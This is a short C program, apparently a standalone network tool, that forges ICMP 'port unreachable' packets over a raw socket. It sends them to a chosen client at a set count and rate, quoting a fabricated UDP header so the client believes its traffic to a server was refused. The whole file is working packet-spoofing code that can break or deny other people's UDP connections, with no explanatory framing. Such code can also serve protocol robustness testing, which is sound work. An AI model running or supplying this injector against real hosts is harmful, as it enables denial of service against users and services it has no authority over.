/*
 * Forges ICMP "port unreachable": `icmp SERVER PORT CLIENT PORT COUNT RATE`, as if the client's datagrams to the server
 * were refused, RATE a second. Needs a raw socket. Writes how many it sent.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* ICMP header, quoted IP header, quoted UDP header. */
enum { ICMP = 8, IP = 20, UDP = 8, SIZE = ICMP + IP + UDP };

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static void put_checksum(uint8_t *bytes, int size, int at) {
  uint32_t sum = 0;
  bytes[at] = bytes[at + 1] = 0;
  for (int i = 0; i < size; i += 2) sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  bytes[at] = (uint8_t)(~sum >> 8);
  bytes[at + 1] = (uint8_t)~sum;
}

int main(int argc, char **argv) {
  if (argc != 7) return 2;
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  if (fd < 0) return 3;
  struct sockaddr_in client = {.sin_family = AF_INET};
  struct in_addr server;
  if (inet_aton(argv[1], &server) == 0 || inet_aton(argv[3], &client.sin_addr) == 0) return 2;
  uint16_t to_port = htons((uint16_t)atoi(argv[2])), from_port = htons((uint16_t)atoi(argv[4]));
  long count = atol(argv[5]);
  double rate = atof(argv[6]);

  uint8_t bytes[SIZE] = {[0] = 3, [1] = 3};
  uint8_t *ip = bytes + ICMP, *udp = ip + IP;
  ip[0] = 0x45;
  ip[3] = IP + UDP + 24;
  ip[8] = 64;
  ip[9] = IPPROTO_UDP;
  memcpy(ip + 12, &client.sin_addr, 4);
  memcpy(ip + 16, &server, 4);
  put_checksum(ip, IP, 10);
  memcpy(udp, &from_port, 2);
  memcpy(udp + 2, &to_port, 2);
  udp[5] = UDP + 24;
  put_checksum(bytes, SIZE, 2);

  long sent = 0;
  for (double start = now(); sent < count;) {
    if (sent > (now() - start) * rate) {
      usleep(500);
      continue;
    }
    if (sendto(fd, bytes, SIZE, 0, (struct sockaddr *)&client, sizeof client) == SIZE) sent++;
    else usleep(500);
  }
  printf("%ld\n", sent);
  return 0;
}
